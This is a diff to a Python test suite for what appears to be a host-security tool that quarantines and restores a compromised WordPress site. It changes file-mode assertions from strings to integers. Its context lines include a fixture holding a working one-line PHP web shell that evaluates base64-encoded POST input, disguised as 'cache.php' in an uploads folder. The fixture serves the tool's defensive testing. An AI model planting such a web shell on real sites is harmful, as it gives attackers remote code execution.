@@ -16,7 +16,7 @@ WEBSHELL = "/var/www/site1/wp-content/uploads/2024/05/cache.php"
 WEBSHELL_CONTENT = "<?php @eval(base64_decode($_POST['z'])); ?>\n"
 CUSTOMER = "customer1"
 CUSTOMER_UID = 2001
-SNAPSHOT = "/usr/local/lib/hostguard-test/snapshot.py"
+SNAPSHOT = "/usr/local/lib/hostguard-test/tree_snapshot.py"
 SITE2_BEFORE = "/root/site2-before.json"
 MANIFEST_DIR = "/var/lib/hostguard/quarantine"
 EVIDENCE_DIR = "/var/lib/hostguard/evidence"
@@ -97,7 +97,7 @@ def test_site2_is_restored_identical_to_before_file_by_file(host):
     before = site2_before(host)
     # The entries a careless restore gets wrong are all part of it.
     assert {"latest", "index-copy.php", "cgi-bin/counter.cgi", "private/empty", ".user.ini"} <= set(before)
-    assert before["cgi-bin/counter.cgi"]["mode"] == "4750"
+    assert before["cgi-bin/counter.cgi"]["mode"] == 0o4750
     now = site2_now(host)
     assert sorted(now) == sorted(before)
     for path, recorded in before.items():
@@ -128,7 +128,7 @@ def test_a_docroot_quarantine_locks_the_customer_out_and_the_restore_brings_ever
     try:
         locked = site2_now(host)
         assert {(entry["uid"], entry["gid"]) for entry in locked.values()} == {(0, 0)}
-        assert {entry["mode"] for path, entry in locked.items() if "target" not in entry} == {"0000"}
+        assert {entry["mode"] for path, entry in locked.items() if "target" not in entry} == {0}
         for command in ("ls /var/www/site2", "cat /var/www/site2/index.php", "chmod 755 /var/www/site2",
                         "mv /var/www/site2/wp-content /var/www/site2/x"):
             assert as_customer(host, command).rc != 0, command
